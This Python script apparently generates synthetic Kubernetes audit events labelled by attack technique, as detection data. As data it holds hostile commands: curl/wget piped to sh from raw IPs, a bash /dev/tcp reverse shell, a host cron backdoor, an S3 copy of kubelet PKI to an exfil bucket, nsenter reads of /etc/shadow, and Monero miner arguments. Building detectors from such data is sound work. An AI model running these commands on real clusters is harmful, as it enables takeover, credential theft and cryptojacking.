"""Attack events: what a security team would want to be paged for. Labelled by technique."""
import base64
import copy
from gen_base import *  # noqa
from gen_objects import *  # noqa
from gen_ops import *  # noqa

A = []


def a(tech, note, e):
    A.append({"technique": tech, "note": note, "event": e})


def rs_pod(dep):
    return f"{dep}-{alnum(R.choice([9, 10]))}-{alnum(5)}"


# ---------------------------------------------------------------- actors of the day
# A kubernetes-admin kubeconfig leaked from a laptop, used from Tor and VPSes.
STOLEN = ADMIN.at(ip=TOR1, ua=KUBECTL_LINUX)
STOLEN_V = ADMIN.at(ip=VPS2, ua=KUBECTL_OLD)
STOLEN6 = ADMIN.at(ip=TOR2, ua=KUBECTL_LINUX)
# The storefront pod in shop was popped (RCE in the app); the attacker uses its token from inside.
SF_POD = "storefront-7b6d9f5c8-qm4zt"
SF_NODE = "web-b2-15-node-71c2d4"
SF_IP = "10.241.3.57"
SF = sa_user("shop", "storefront", SF_IP, "curl/7.88.1", pod=SF_POD, node=SF_NODE)
SF_KUBECTL = SF.at(ua="kubectl/v1.30.4 (linux/amd64) kubernetes/0a4e2b3")
# The CI deployer token leaked from a pipeline log, used from a VPS.
CI_LEAK = sa_user("ci", "gitlab-deployer", VPS1, KUBECTL_127, bound=True)
# A developer's OIDC session, hijacked (cookie/refresh token theft), used from a VPS.
THEO_HIJACK = THEO.at(ip=VPS3, ua=KUBECTL_LINUX)
# Grafana's SA (in monitoring) token stolen via an SSRF; used with python.
GRAFANA = sa_user("monitoring", "grafana", "10.242.5.19", "OpenAPI-Generator/30.1.0/python",
                  pod="grafana-6c9d8b7f4-p2wzl", node="ingest-b3-16-node-93b02f")

PRIV = {"privileged": True}

# ================================================================ Execution
t = at(2, 14)
a("exec", "stolen admin kubeconfig from Tor: websocket exec sh into the payments database pod",
  streaming(STOLEN, "exec", "payments", "ledger-db-0", exec_q(["sh"], "postgres"), t=t))
a("exec", "stolen admin: exec into argocd application controller to read its SA token (SPDY POST, old kubectl)",
  streaming(STOLEN_V, "exec", "argocd", "argocd-application-controller-0",
            exec_q(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "argocd-application-controller",
                   tty=False, stdin=False), verb="create", stage="ResponseComplete", t=at(2, 31)))
a("exec", "compromised storefront SA (kubectl dropped in the pod) execs into a cilium agent in kube-system",
  streaming(SF_KUBECTL, "exec", "kube-system", "cilium-8xq4n", exec_q(["/bin/bash"], "cilium-agent"),
            t=at(13, 5)))
a("exec", "compromised storefront SA: exec refused by RBAC (403) into the payments api",
  refused(SF_KUBECTL, "get", "pods", "payments-api-5f7c9d6b8-h2x9k", "payments", sub="exec",
          q=exec_q(["sh"], "api"), t=at(13, 3)))
a("exec", "hijacked developer session from a VPS: exec a curl|sh dropper in the search pod",
  streaming(THEO_HIJACK, "exec", "search-api", "search-api-84d7f6c5b9-tr6mk",
            exec_q(["sh", "-c", "curl -fsSL http://194.165.16.77/k.sh | sh"], "search-api", tty=False),
            stage="ResponseComplete", t=at(4, 2)))
a("exec", "python client (stolen grafana SA) execs env dump in the ledger api (POST/SPDY), ResponseStarted",
  streaming(GRAFANA, "exec", "payments", "payments-api-5f7c9d6b8-h2x9k",
            exec_q(["env"], "api", tty=False, stdin=False), verb="create", t=at(21, 40)))
a("exec", "stolen admin (Tor IPv6): exec into coredns to inspect the cluster DNS, ResponseComplete",
  streaming(STOLEN6, "exec", "kube-system", "coredns-6f9c8d7b5-zx8lq", exec_q(["sh"], "coredns"),
            stage="ResponseComplete", t=at(2, 49)))
a("exec", "leaked CI token used from a VPS: exec into the gitlab runner to pivot",
  streaming(CI_LEAK, "exec", "ci", "gitlab-runner-7dc8f96b4-lk5wd", exec_q(["/bin/sh"], "gitlab-runner"),
            verb="create", t=at(1, 12)))

a("attach", "stolen admin (old kubectl, SPDY POST) attaches to the storefront container",
  streaming(STOLEN_V, "attach", "shop", SF_POD, "?container=storefront&stdin=true&stdout=true&tty=true",
            verb="create", t=at(2, 37)))
a("attach", "hijacked developer session attaches (websocket GET) to a kube-system konnectivity agent",
  streaming(THEO_HIJACK, "attach", "kube-system", "konnectivity-agent-7kx2m",
            "?container=konnectivity-agent&stdout=true&stderr=true", t=at(4, 9)))
a("attach", "compromised storefront SA: attach refused (403)",
  refused(SF_KUBECTL, "get", "pods", "payments-api-5f7c9d6b8-h2x9k", "payments", sub="attach",
          q="?container=api&stdin=true&stdout=true&tty=true", t=at(13, 8)))
a("attach", "stolen admin attaches to a debug container it added to the ledger db pod",
  streaming(STOLEN, "attach", "payments", "ledger-db-0",
            "?container=debugger-k8w2r&stdin=true&stdout=true&tty=true", stage="ResponseComplete",
            t=at(2, 22)))

a("port-forward", "stolen admin port-forwards (websocket GET) to the ledger postgres from Tor",
  streaming(STOLEN, "portforward", "payments", "ledger-db-0", "?ports=5432", t=at(2, 18)))
a("port-forward", "hijacked developer session port-forwards to redis in shop (SPDY POST)",
  streaming(THEO_HIJACK.at(ua=KUBECTL_OLD), "portforward", "shop", "redis-master-0", "", verb="create",
            t=at(4, 14)))
a("port-forward", "leaked CI token: port-forward to the argocd repo server, refused (403)",
  refused(CI_LEAK, "create", "pods", "argocd-repo-server-6b8c9d7f5-m4vtz", "argocd", sub="portforward",
          t=at(1, 20)))
a("port-forward", "stolen admin forwards to the metrics-server pod in kube-system",
  streaming(STOLEN6, "portforward", "kube-system", "metrics-server-5c7d9f8b6-qh2lx", "?ports=10250",
            stage="ResponseComplete", t=at(3, 1)))


def eph_body(name, image, target, privileged=False):
    c = {"name": name, "image": image, "resources": {}, "terminationMessagePolicy": "File",
         "imagePullPolicy": "IfNotPresent", "stdin": True, "tty": True, "targetContainerName": target}
    if privileged:
        c["securityContext"] = {"privileged": True}
    return c


def pod_with_eph(ns, name, app_image, app, eph, node):
    p = pod(name, ns, pod_spec([container(app, app_image)], node=node), labels={"app": app})
    s = pod_stored(p, at(0, 1))
    s["spec"]["ephemeralContainers"] = [eph]
    s["status"] = {"phase": "Running", "qosClass": "Burstable"}
    return s


e1 = eph_body("debugger-k8w2r", "busybox:1.36", "postgres")
a("ephemeral-container", "stolen admin: kubectl debug adds an ephemeral busybox container targeting postgres",
  patch(STOLEN, "pods", "ledger-db-0", {"spec": {"ephemeralContainers": [e1]}},
        pod_with_eph("payments", "ledger-db-0", "postgres:16.3", "postgres", e1, "ingest-b3-16-node-e1a498"),
        ns="payments", sub="ephemeralcontainers", t=at(2, 21)))
e2 = eph_body("debugger-vz4hq", "nicolaka/netshoot:v0.13", "search-api", privileged=True)
a("ephemeral-container", "hijacked developer session: kubectl debug --profile=sysadmin (privileged ephemeral container)",
  patch(THEO_HIJACK, "pods", "search-api-84d7f6c5b9-tr6mk", {"spec": {"ephemeralContainers": [e2]}},
        pod_with_eph("search-api", "search-api-84d7f6c5b9-tr6mk", "registry.lumenstack.io/search/api:3.8.1",
                     "search-api", e2, "web-b2-15-node-0b9f3a"),
        ns="search-api", sub="ephemeralcontainers", t=at(4, 5)))
a("ephemeral-container", "compromised storefront SA: ephemeral container refused (403)",
  refused(SF_KUBECTL, "patch", "pods", "payments-api-5f7c9d6b8-h2x9k", "payments", sub="ephemeralcontainers",
          t=at(13, 11)))
e3 = eph_body("dbg", "alpine:3.20", "coredns")
p3 = pod_with_eph("kube-system", "coredns-6f9c8d7b5-zx8lq", "registry.k8s.io/coredns/coredns:v1.11.3",
                  "coredns", e3, "web-b2-15-node-a8e5f1")
p3req = copy.deepcopy(p3)
p3req["spec"]["ephemeralContainers"] = [e3]
a("ephemeral-container", "python client (stolen grafana SA) PUTs the ephemeralcontainers subresource of coredns",
  update(GRAFANA, "pods", "coredns-6f9c8d7b5-zx8lq", p3req, ns="kube-system", sub="ephemeralcontainers",
         resp=p3, t=at(21, 44)))

N1 = "web-b2-15-node-0b9f3a"
a("kubelet-api-proxy", "stolen admin lists pods through the kubelet API (nodes/proxy /pods)",
  get(STOLEN, "nodes", N1, sub="proxy", q="/pods", t=at(2, 40)))
run_ref, run_path = R_("nodes", "ingest-b3-16-node-93b02f", None, None)
a("kubelet-api-proxy", "stolen grafana SA (has nodes/proxy) runs a command via the kubelet /run endpoint",
  event(GRAFANA, "create", "/api/v1/nodes/ingest-b3-16-node-93b02f/proxy/run/monitoring/grafana-6c9d8b7f4-p2wzl/grafana",
        ref("nodes", None, "ingest-b3-16-node-93b02f", None, "v1", "proxy"), t=at(21, 33)))
a("kubelet-api-proxy", "stolen grafana SA: websocket GET to kubelet /exec via nodes/proxy into a cilium agent",
  event(GRAFANA.at(ua="websocat/1.13.0"), "get",
        "/api/v1/nodes/web-b2-15-node-71c2d4/proxy/exec/kube-system/cilium-8xq4n/cilium-agent?command=sh&input=1&output=1&tty=1",
        ref("nodes", None, "web-b2-15-node-71c2d4", None, "v1", "proxy"), code=101, stage="ResponseStarted",
        t=at(21, 35)))
a("kubelet-api-proxy", "hijacked developer session reads kubelet configz via nodes/proxy with port in the name",
  event(THEO_HIJACK, "get", "/api/v1/nodes/ingest-b3-16-node-5d0c7e:10250/proxy/configz",
        ref("nodes", None, "ingest-b3-16-node-5d0c7e:10250", None, "v1", "proxy"), t=at(4, 20)))
a("kubelet-api-proxy", "compromised storefront SA: nodes/proxy refused (403)",
  refused(SF, "get", "nodes", SF_NODE, sub="proxy", q="/runningpods/", t=at(13, 14)))

# ================================================================ Workloads
t0 = at(2, 55)
p = pod("diag-shell", "default", pod_spec([container("diag-shell", "alpine:3.20", command=["sleep", "infinity"],
                                                    sc=PRIV)], restart="Never"), labels={"run": "diag-shell"})
a("privileged-pod", "stolen admin: kubectl run a privileged alpine pod in default",
  create(STOLEN, "pods", p, q="?fieldManager=kubectl-run", t=t0))
p = pod(None, "shop", pod_spec([container("x", "ubuntu:22.04", command=["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                                         sc={"privileged": True, "runAsUser": 0}, stdin=True, tty=True)],
                              host_pid=True), generate_name="storefront-worker-")
a("privileged-pod", "compromised storefront SA POSTs a privileged hostPID nsenter pod (curl)",
  create(SF, "pods", p, t=at(13, 20)))
dep = deployment("metrics-relay", "search-api", pod_spec(
    [container("relay", "registry.gitlab.com/sysops-tools/relay:2.1", sc={"privileged": True, "allowPrivilegeEscalation": True})]),
    labels={"app": "metrics-relay"})
a("privileged-pod", "hijacked developer session: client-side apply of a Deployment with a privileged container",
  create(THEO_HIJACK, "deployments", dep, q="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
         t=at(4, 25), ann={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"}))
pp = pod(None, "search-api", dep["spec"]["template"]["spec"], labels={"app": "metrics-relay", "pod-template-hash": "6d4c8b9f7"},
         generate_name="metrics-relay-6d4c8b9f7-",
         owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "metrics-relay-6d4c8b9f7", "uid": uid(),
                "controller": True, "blockOwnerDeletion": True})
a("privileged-pod", "replicaset-controller creates the privileged pod of the attacker's metrics-relay Deployment",
  create(controller("replicaset-controller"), "pods", pp, t=at(4, 25, 30)))
p = pod("netdiag", "payments", pod_spec([container("netdiag", "nicolaka/netshoot:v0.13", sc=PRIV)]))
msg = ('pods "netdiag" is forbidden: violates PodSecurity "baseline:latest": privileged (container "netdiag" '
       'must not set securityContext.privileged=true)')
a("privileged-pod", "stolen admin: privileged pod in payments refused by Pod Security admission (403)",
  create_denied_admission(STOLEN, "pods", p, 403, msg, q="?fieldManager=kubectl-run", t=at(2, 57),
                          ann={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"}))
dep2 = deployment("cart-sync", "shop", pod_spec([container("sync", "ghcr.io/lumenstack/cart-sync:1.4.2",
                                                          sc={"privileged": True})]))
kmsg = ("admission webhook \"validate.kyverno.svc-fail\" denied the request: \n\nresource Deployment/shop/cart-sync "
        "was blocked due to the following policies \n\ndisallow-privileged-containers:\n  autogen-privileged-containers: "
        "'validation error: Privileged mode is disallowed. rule autogen-privileged-containers failed at path "
        "/spec/template/spec/containers/0/securityContext/privileged/'\n")
a("privileged-pod", "leaked CI token: privileged Deployment refused by a Kyverno webhook (400)",
  create_denied_admission(CI_LEAK, "deployments", dep2, 400, kmsg, t=at(1, 25)))
orig = deployment("checkout", "shop", pod_spec([container("checkout", "ghcr.io/lumenstack/checkout:5.2.0",
                                                         sc={"privileged": True})]), replicas=3)
res = stored(orig, at(0, 0), status={"replicas": 3, "readyReplicas": 3}, gen=14)
a("privileged-pod", "stolen admin: JSON patch makes the checkout Deployment's container privileged",
  patch(STOLEN6, "deployments", "checkout",
        [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}}],
        res, ns="shop", q="?fieldManager=kubectl-patch", t=at(3, 4)))
st = statefulset("queue-agent", "data-pipeline", pod_spec([container("agent", "quay.io/streamops/agent:0.9.3",
                                                                    sc={"capabilities": {"add": ["SYS_ADMIN", "SYS_PTRACE"]}})]))
a("privileged-pod", "hijacked developer session: StatefulSet adding CAP_SYS_ADMIN and SYS_PTRACE",
  create(THEO_HIJACK, "statefulsets", st, q="?fieldManager=kubectl-create&fieldValidation=Strict", t=at(4, 31)))

p = pod("pidwatch", "shop", pod_spec([container("pidwatch", "docker.io/library/busybox:1.36", command=["sleep", "86400"])],
                                    host_pid=True, host_net=True))
a("host-namespaces", "compromised storefront SA: pod with hostPID and hostNetwork",
  create(SF, "pods", p, t=at(13, 24)))
dep = deployment("edge-sniffer", "shop", pod_spec([container("tcpdump", "docker.io/corfr/tcpdump:latest",
                                                            args=["-i", "any", "-w", "/tmp/cap.pcap"])], host_net=True))
a("host-namespaces", "stolen admin: Deployment with hostNetwork to sniff node traffic",
  create(STOLEN, "deployments", dep, q="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", t=at(3, 10)))
p = pod("ipc-probe", "data-pipeline", pod_spec([container("probe", "alpine:3.19", command=["sh", "-c", "ipcs -a; sleep 3600"])],
                                              host_ipc=True))
a("host-namespaces", "hijacked developer session: pod sharing the host IPC namespace",
  create(THEO_HIJACK, "pods", p, q="?fieldManager=kubectl-run", t=at(4, 33)))
j = job("db-migrate-2", "payments", pod_spec([container("migrate", "alpine:3.20",
                                                       command=["sh", "-c", "nsenter -t 1 -a -- sh -c 'cat /etc/shadow'"])],
                                            host_pid=True))
a("host-namespaces", "leaked CI token: Job with hostPID disguised as a migration",
  create(CI_LEAK, "jobs", j, q="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", t=at(1, 28)))
jp = pod(None, "payments", dict(j["spec"]["template"]["spec"]), labels={"job-name": "db-migrate-2"},
         generate_name="db-migrate-2-",
         owner={"apiVersion": "batch/v1", "kind": "Job", "name": "db-migrate-2", "uid": uid(), "controller": True,
                "blockOwnerDeletion": True})
a("host-namespaces", "job-controller creates the hostPID pod of the attacker's Job",
  create(controller("job-controller"), "pods", jp, t=at(1, 28, 40)))
p = pod("hostnet-check", "payments", pod_spec([container("c", "busybox:1.36", command=["sleep", "3600"])], host_net=True))
msg = ('pods "hostnet-check" is forbidden: violates PodSecurity "baseline:latest": host namespaces '
       '(hostNetwork=true)')
a("host-namespaces", "hijacked developer session: hostNetwork pod refused by Pod Security (403)",
  create_denied_admission(THEO_HIJACK, "pods", p, 403, msg, q="?fieldManager=kubectl-run", t=at(4, 34),
                          ann={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"}))

p = pod("hostfs", "default", pod_spec([container("hostfs", "alpine:3.20", command=["sleep", "infinity"],
                                                mounts=[("root", "/host")])],
                                     volumes=[hostpath("root", "/")]))
a("sensitive-hostpath", "stolen admin: pod mounting the node's root filesystem at /host",
  create(STOLEN, "pods", p, q="?fieldManager=kubectl-create&fieldValidation=Strict", t=at(3, 14)))
p = pod(None, "shop", pod_spec([container("ctr", "docker.io/library/docker:27-cli", command=["sleep", "infinity"],
                                         mounts=[("sock", "/run/containerd/containerd.sock")])],
                              volumes=[hostpath("sock", "/run/containerd/containerd.sock", "Socket")]),
        generate_name="sf-cache-")
a("sensitive-hostpath", "compromised storefront SA: pod mounting the containerd socket",
  create(SF, "pods", p, t=at(13, 27)))
dep = deployment("pki-backup", "data-pipeline", pod_spec(
    [container("backup", "amazon/aws-cli:2.17.0", command=["sh", "-c", "aws s3 cp --recursive /pki s3://exfil-bkt-9931/"],
               mounts=[("pki", "/pki")])], volumes=[hostpath("pki", "/var/lib/kubelet/pki", "Directory")]))
a("sensitive-hostpath", "hijacked developer session: Deployment copying /var/lib/kubelet/pki to S3",
  create(THEO_HIJACK, "deployments", dep, t=at(4, 40)))
p = pod("cron-writer", "search-api", pod_spec([container("w", "alpine:3.20",
                                                        command=["sh", "-c", "echo '* * * * * root curl -s http://45.9.148.221/c|sh' > /h/cron.d/x"],
                                                        mounts=[("etc", "/h")])],
                                             volumes=[hostpath("etc", "/etc", "Directory")], restart="Never"))
a("sensitive-hostpath", "hijacked developer session: pod writing a host cron entry through a /etc hostPath",
  create(THEO_HIJACK, "pods", p, t=at(4, 42)))
base = deployment("storefront", "shop", pod_spec([container("storefront", "ghcr.io/lumenstack/storefront:8.3.1",
                                                           mounts=[("h", "/mnt")])],
                                                volumes=[hostpath("h", "/")]), replicas=4)
res = stored(base, at(0, 0), gen=31)
a("sensitive-hostpath", "stolen admin: merge patch adds a hostPath / volume to the storefront Deployment",
  patch(STOLEN6, "deployments", "storefront",
        {"spec": {"template": {"spec": {"volumes": [{"name": "h", "hostPath": {"path": "/"}}],
                                        "containers": [{"name": "storefront", "volumeMounts": [{"name": "h", "mountPath": "/mnt"}]}]}}}},
        res, ns="shop", q="?fieldManager=kubectl-patch", t=at(3, 6)))
p = pod(None, "data-pipeline", pod_spec([container("etl", "ghcr.io/lumenstack/etl:2.0.7",
                                                  mounts=[("k", "/etc/k8s")])],
                                       volumes=[hostpath("k", "/etc/kubernetes")]),
        labels={"app": "etl-sidecar", "pod-template-hash": "b7c9d4f6"}, generate_name="etl-sidecar-b7c9d4f6-",
        owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "etl-sidecar-b7c9d4f6", "uid": uid(),
               "controller": True, "blockOwnerDeletion": True})
a("sensitive-hostpath", "replicaset-controller creates a pod (attacker's Deployment) mounting /etc/kubernetes",
  create(controller("replicaset-controller"), "pods", p, t=at(4, 44)))
p = pod("logreader", "shop", pod_spec([container("r", "busybox:1.36", command=["sleep", "9999"],
                                                mounts=[("logs", "/var/log/host")])],
                                     volumes=[hostpath("logs", "/var/log")]))
a("sensitive-hostpath", "compromised storefront SA: pod mounting /var/log (symlink escape technique)",
  create(SF, "pods", p, t=at(13, 29)))


def node_debug(node, image, profile_priv=False):
    sc = {"privileged": True} if profile_priv else None
    c = container("debugger", image, stdin=True, tty=True, mounts=[("host-root", "/host")], sc=sc)
    c["terminationMessagePolicy"] = "File"
    return pod(f"node-debugger-{node}-{alnum(5)}", "default",
               pod_spec([c], volumes=[hostpath("host-root", "/")], node=node, host_pid=True, host_net=True,
                        host_ipc=True, tolerations=TOLERATE_ALL, restart="Never"))


p = node_debug("ingest-b3-16-node-e1a498", "ubuntu:24.04")
a("node-debug-pod", "stolen admin: kubectl debug node/... (hostPID/Net/IPC, host / at /host)",
  create(STOLEN, "pods", p, t=at(3, 18)))
p = node_debug("web-b2-15-node-c6d710", "busybox:1.36", profile_priv=True)
p["metadata"]["namespace"] = "kube-system"
a("node-debug-pod", "hijacked developer session: kubectl debug node --profile=sysadmin in kube-system",
  create(THEO_HIJACK, "pods", p, t=at(4, 47)))
p = node_debug("web-b2-15-node-0b9f3a", "nicolaka/netshoot:v0.13")
p["metadata"]["namespace"] = "payments"
msg = (f'pods "{p["metadata"]["name"]}" is forbidden: violates PodSecurity "baseline:latest": host namespaces '
       '(hostNetwork=true, hostPID=true, hostIPC=true), hostPath volumes (volume "host-root")')
a("node-debug-pod", "stolen admin: node debug pod in payments refused by Pod Security (403)",
  create_denied_admission(STOLEN6, "pods", p, 403, msg, t=at(3, 20),
                          ann={"pod-security.kubernetes.io/enforce-policy": "baseline:latest"}))
p = node_debug("ingest-b3-16-node-93b02f", "alpine:3.20")
a("node-debug-pod", "stolen grafana SA (python) creates a node-debugger style pod",
  create(GRAFANA, "pods", p, t=at(21, 50)))

ds = daemonset("node-health", "default", pod_spec([container("agent", "alpine:3.20",
                                                            command=["sh", "-c", "while true; do wget -qO- http://159.223.41.72/beacon?h=$(hostname); sleep 300; done"])],
                                                 tolerations=TOLERATE_ALL))
a("human-daemonset", "stolen admin: DaemonSet beaconing from every node",
  create(STOLEN, "daemonsets", ds, q="?fieldManager=kubectl-create&fieldValidation=Strict", t=at(3, 24)))
ds = daemonset("log-forwarder", "data-pipeline", pod_spec(
    [container("fwd", "docker.io/fluent/fluent-bit:3.1.4", mounts=[("varlog", "/var/log")])],
    volumes=[hostpath("varlog", "/var/log")]))
a("human-daemonset", "hijacked developer session: DaemonSet reading every node's /var/log",
  create(THEO_HIJACK, "daemonsets", ds, t=at(4, 52)))
ds = daemonset("kube-proxy-helper", "kube-system", pod_spec([container("helper", "ghcr.io/k8s-netops/proxy-helper:0.3",
                                                                      sc=PRIV)], host_net=True,
                                                           tolerations=TOLERATE_ALL))
a("human-daemonset", "leaked CI token: server-side apply creates a privileged DaemonSet in kube-system",
  patch(CI_LEAK, "daemonsets", "kube-proxy-helper", ds, stored(ds, at(1, 33)), ns="kube-system",
        q="?fieldManager=kubectl&fieldValidation=Strict&force=false", code=201, t=at(1, 33)))
a("human-daemonset", "compromised storefront SA: DaemonSet create refused (403)",
  refused(SF, "create", "daemonsets", None, "shop", t=at(13, 31)))
dp = pod(None, "default", ds_spec := daemonset("node-health", "default", pod_spec([container("agent", "alpine:3.20",
                                                                                            command=["sh", "-c", "while true; do wget -qO- http://159.223.41.72/beacon?h=$(hostname); sleep 300; done"])],
                                                                                 tolerations=TOLERATE_ALL))["spec"]["template"]["spec"],
         labels={"app": "node-health", "controller-revision-hash": "7c5f9b8d6", "pod-template-generation": "1"},
         generate_name="node-health-",
         owner={"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "node-health", "uid": uid(), "controller": True,
                "blockOwnerDeletion": True})
a("human-daemonset", "daemonset-controller creates a pod of the attacker's node-health DaemonSet",
  create(controller("daemon-set-controller"), "pods", dp, t=at(3, 24, 50)))

cj = cronjob("etcd-defrag", "kube-system", "*/10 * * * *", pod_spec(
    [container("defrag", "curlimages/curl:8.8.0", command=["sh", "-c", "curl -fsSL http://45.9.148.221/d.sh | sh"])]))
a("cronjob-persistence", "stolen admin: CronJob in kube-system fetching and running a script every 10 min",
  create(STOLEN, "cronjobs", cj, q="?fieldManager=kubectl-create&fieldValidation=Strict", t=at(3, 28)))
cj = cronjob("cache-warm", "shop", "@hourly", pod_spec(
    [container("w", "bash:5.2", command=["bash", "-c", "bash -i >& /dev/tcp/45.9.148.221/4444 0>&1"])]))
a("cronjob-persistence", "compromised storefront SA: hourly CronJob opening a reverse shell",
  create(SF, "cronjobs", cj, t=at(13, 35)))
orig = cronjob("nightly-report", "data-pipeline", "0 2 * * *", pod_spec(
    [container("report", "ghcr.io/lumenstack/reports:1.9.0", command=["sh", "-c", "wget -qO- http://194.165.16.77/r | sh"])]))
a("cronjob-persistence", "hijacked developer session: JSON patch swaps an existing CronJob's command",
  patch(THEO_HIJACK, "cronjobs", "nightly-report",
        [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/command",
          "value": ["sh", "-c", "wget -qO- http://194.165.16.77/r | sh"]}],
        stored(orig, at(0, 0), gen=6), ns="data-pipeline", q="?fieldManager=kubectl-patch", t=at(4, 55)))
jj = job("etcd-defrag-29169840", "kube-system", cj_spec := cronjob("etcd-defrag", "kube-system", "*/10 * * * *", pod_spec(
    [container("defrag", "curlimages/curl:8.8.0", command=["sh", "-c", "curl -fsSL http://45.9.148.221/d.sh | sh"])]))["spec"]["jobTemplate"]["spec"]["template"]["spec"],
         owner={"apiVersion": "batch/v1", "kind": "CronJob", "name": "etcd-defrag", "uid": uid(), "controller": True,
                "blockOwnerDeletion": True})
a("cronjob-persistence", "cronjob-controller creates the Job of the attacker's etcd-defrag CronJob",
  create(controller("cronjob-controller"), "jobs", jj, t=at(3, 30, 0)))
a("cronjob-persistence", "leaked CI token: CronJob create in kube-system refused (403)",
  refused(CI_LEAK, "create", "cronjobs", None, "kube-system", t=at(1, 36)))

dep = deployment("coredns-autoscaler", "kube-system", pod_spec(
    [container("autoscaler", "registry.k8s.io/cpa/cluster-proportional-autoscaler:v1.8.9")], sa="coredns"))
a("kube-system-workload", "hijacked developer session: Deployment in kube-system reusing the coredns SA",
  create(THEO_HIJACK, "deployments", dep, t=at(5, 2)))
p = pod("dns-check", "kube-system", pod_spec([container("dns-check", "busybox:1.36", command=["sleep", "36000"])]))
a("kube-system-workload", "stolen admin: kubectl run a pod in kube-system",
  create(STOLEN6, "pods", p, q="?fieldManager=kubectl-run", t=at(3, 33)))
j = job("cleanup-orphans", "kube-system", pod_spec([container("c", "bitnami/kubectl:1.31",
                                                              command=["kubectl", "get", "secrets", "-A", "-o", "yaml"])],
                                                   sa="generic-garbage-collector"))
a("kube-system-workload", "compromised storefront SA (has create jobs in kube-system) runs a Job as a controller SA",
  create(SF, "jobs", j, t=at(13, 38)))
a("kube-system-workload", "stolen grafana SA: pod create in kube-system refused (403)",
  refused(GRAFANA, "create", "pods", None, "kube-system", t=at(21, 52)))

ds_kp = daemonset("kube-proxy", "kube-system", pod_spec(
    [container("kube-proxy", "docker.io/kubeproxy-mirror/kube-proxy:v1.31.6", command=["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"],
               sc=PRIV)], host_net=True, tolerations=TOLERATE_ALL, priority_class="system-node-critical"),
    labels={"k8s-app": "kube-proxy"})
a("kube-system-untrusted-image", "stolen admin: JSON patch replaces kube-proxy's image with a look-alike Docker Hub one",
  patch(STOLEN, "daemonsets", "kube-proxy",
        [{"op": "replace", "path": "/spec/template/spec/containers/0/image",
          "value": "docker.io/kubeproxy-mirror/kube-proxy:v1.31.6"}],
        stored(ds_kp, at(0, 0), gen=3), ns="kube-system", q="?fieldManager=kubectl-patch", t=at(3, 36)))
dep_cd = deployment("coredns", "kube-system", pod_spec([container("coredns", "ghcr.io/c0redns/coredns:1.11.3",
                                                                 args=["-conf", "/etc/coredns/Corefile"])],
                                                      sa="coredns", priority_class="system-cluster-critical"),
                    labels={"k8s-app": "kube-dns"}, replicas=2)
a("kube-system-untrusted-image", "hijacked developer session: kubectl set image on coredns (strategic merge patch)",
  patch(THEO_HIJACK, "deployments", "coredns",
        {"spec": {"template": {"spec": {"containers": [{"name": "coredns", "image": "ghcr.io/c0redns/coredns:1.11.3"}]}}}},
        stored(dep_cd, at(0, 0), gen=9), ns="kube-system", q="?fieldManager=kubectl-set", t=at(5, 6)))
p = pod("kube-state-agent", "kube-system", pod_spec([container("agent", "docker.io/l0kitools/agent:latest")]))
a("kube-system-untrusted-image", "stolen admin: pod in kube-system from an unknown Docker Hub user, :latest",
  create(STOLEN_V, "pods", p, t=at(3, 40)))
pp = pod(None, "kube-system", dep_cd["spec"]["template"]["spec"], labels={"k8s-app": "kube-dns", "pod-template-hash": "8c4d6f9b7"},
         generate_name="coredns-8c4d6f9b7-",
         owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "coredns-8c4d6f9b7", "uid": uid(),
                "controller": True, "blockOwnerDeletion": True})
a("kube-system-untrusted-image", "replicaset-controller creates a coredns pod from the look-alike image",
  create(controller("replicaset-controller"), "pods", pp, t=at(5, 6, 20)))

MONERO = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
dep = deployment("redis-cache", "default", pod_spec([container("redis", "docker.io/metal3d/xmrig:latest",
                                                              resources={"limits": {"cpu": "3"}})]), replicas=6)
a("cryptominer", "stolen admin: 'redis-cache' Deployment running the xmrig image, 6 replicas",
  create(STOLEN, "deployments", dep, t=at(3, 44)))
p = pod(None, "shop", pod_spec([container("worker", "alpine:3.20", command=["/tmp/.x/kworker"],
                                         args=["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", MONERO, "-p", "k8s",
                                               "--cpu-max-threads-hint=90"])]), generate_name="sf-img-")
a("cryptominer", "compromised storefront SA: pod running a renamed miner against a stratum pool",
  create(SF, "pods", p, t=at(13, 42)))
ds = daemonset("kube-metrics", "kube-system", pod_spec([container("metrics", "docker.io/kannix/monero-miner:latest")],
                                                       tolerations=TOLERATE_ALL), labels={"k8s-app": "kube-metrics"})
a("cryptominer", "leaked CI token: monero-miner DaemonSet in kube-system (TeamTNT style)",
  create(CI_LEAK, "daemonsets", ds, t=at(1, 40)))
j = job("batch-compress", "data-pipeline", pod_spec([container("c", "docker.io/tuxmine/cpuminer-opt:23.15",
                                                              args=["--algo=rx/0", "-o", "gulf.moneroocean.stream:10128", "-u", MONERO])]))
a("cryptominer", "hijacked developer session: Job running cpuminer-opt to moneroocean",
  create(THEO_HIJACK, "jobs", j, t=at(5, 10)))
pp = pod(None, "default", dep["spec"]["template"]["spec"], labels={"app": "redis-cache", "pod-template-hash": "5f8d7c6b9"},
         generate_name="redis-cache-5f8d7c6b9-",
         owner={"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "redis-cache-5f8d7c6b9", "uid": uid(),
                "controller": True, "blockOwnerDeletion": True})
a("cryptominer", "replicaset-controller creates an xmrig pod of the attacker's redis-cache Deployment",
  create(controller("replicaset-controller"), "pods", pp, t=at(3, 44, 10)))
orig = deployment("image-resizer", "shop", pod_spec([container("resizer", "ghcr.io/lumenstack/resizer:2.3.0",
                                                              args=["--donate-level=0", "-o", "xmr-eu1.nanopool.org:14433", "--tls", "-u", MONERO])]))
